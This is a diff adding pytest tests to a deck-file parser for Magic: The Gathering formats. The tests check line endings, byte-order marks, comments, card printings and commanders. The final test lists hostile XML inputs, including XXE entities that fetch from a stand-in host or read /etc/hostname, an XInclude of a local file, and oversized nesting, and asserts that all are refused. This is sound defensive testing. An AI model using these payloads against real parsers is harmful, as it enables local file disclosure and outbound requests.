@@ -250,6 +250,72 @@ def test_any_bytes_are_read_or_refused(raw: bytes) -> None:
         assert read(raw).dialect in DIALECTS
 
 
+# --- odd files -----------------------------------------------------------------------------------
+
+TEXTS = ["arena", "mtgo", "plain", "forge"]
+
+
+@pytest.mark.parametrize("dialect", TEXTS)
+def test_ends_of_lines_marks_and_blanks_do_not_matter(dialect: str) -> None:
+    text = SAMPLES[dialect]
+    assert same(from_text(text.replace("\n", "\r\n")), MEANT)
+    assert same(from_text(text.replace("\n", "\r")), MEANT)
+    assert same(from_text("\ufeff" + text), MEANT)
+    assert same(from_text(text.replace("\n", "\r\n").encode("utf-8-sig")), MEANT)
+    assert same(from_text("\n\n".join(f"  {line}\t" for line in text.splitlines()) + "\n\n", dialect=dialect), MEANT)
+    assert same(from_text(text.replace("4 Bonecrusher", "4\tBonecrusher").replace("3 ", "3   ")), MEANT)
+
+
+@pytest.mark.parametrize("dialect", ["dek", "cockatrice"])
+def test_marks_and_ends_of_lines_in_xml(dialect: str) -> None:
+    text = SAMPLES[dialect]
+    assert same(from_text(text.replace("\n", "\r\n").encode("utf-8-sig")), MEANT)
+    assert same(from_text(text.encode("utf-16")), MEANT)
+
+
+def test_comments_are_passed_over() -> None:
+    text = "# mine\n// Lands\n60 Forest\n// 3 Opt\n#4 Shock\n2 Opt # to dig\n1 Shock ^Burn,#f00^"
+    assert from_text(text).main == (("Forest", 60), ("Opt", 2), ("Shock", 1))
+
+
+@pytest.mark.parametrize("printing", ["(ELD) 115", "(PLST) ELD-115", "(ELD) 115p *F*", "(ELD) 115★ *E*", "[ELD]", "<115> [ELD]",
+                                      "(ELD)"])  # fmt: skip
+@pytest.mark.parametrize("name", ["Bonecrusher Giant", "Bonecrusher Giant // Stomp", "Bonecrusher Giant/Stomp"])
+def test_printings_are_not_part_of_the_name(name: str, printing: str) -> None:
+    assert from_text(f"60 Mountain\n4 {name} {printing}").main[1] == ("Bonecrusher Giant", 4)
+
+
+def test_an_unknown_card_in_xml_is_named_with_its_line() -> None:
+    for text, line in ((DEK, 6), (COD, 8)):
+        with pytest.raises(InvalidDeck, match=f"line {line}: no card is called 'Mountian'"):
+            from_text(text.replace("Mountain", "Mountian"))
+
+
+def test_a_commander_and_a_partner_survive_each_dialect() -> None:
+    leaders = ("Haldan, Avid Arcanist", "Pako, Arcane Retriever")
+    made = Deck("pair", (("Island", 49), ("Forest", 49)), leaders)
+    for dialect in DIALECTS:
+        assert same(from_text(written(made, dialect)), made), dialect
+
+
+@pytest.mark.parametrize("root", ["Deck", "cockatrice_deck"])
+@pytest.mark.parametrize(
+    "evil",
+    [
+        '<!DOCTYPE {r} [<!ENTITY % p SYSTEM "http://x.invalid/e"> %p;]><{r}/>',
+        '<!DOCTYPE {r} [<!ENTITY f SYSTEM "file:///etc/hostname">]><{r}>&f;</{r}>',
+        '<!DOCTYPE {r} [<!ATTLIST {r} a CDATA "b">]><{r}/>',
+        "<!DOCTYPE {r}><{r}/>",
+        '<{r} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/hostname"/>',
+        "<{r}>" + "<a b='c'>" * 100_000,
+        "<{r}><![CDATA[" + "x" * 100_000,
+    ],
+)
+def test_hostile_xml_is_refused(evil: str, root: str) -> None:
+    with pytest.raises(InvalidDeck):
+        read(evil.replace("{r}", root), "dek" if root == "Deck" else "cockatrice")
+
+
 # --- files ----------------------------------------------------------------------------------------
 
 
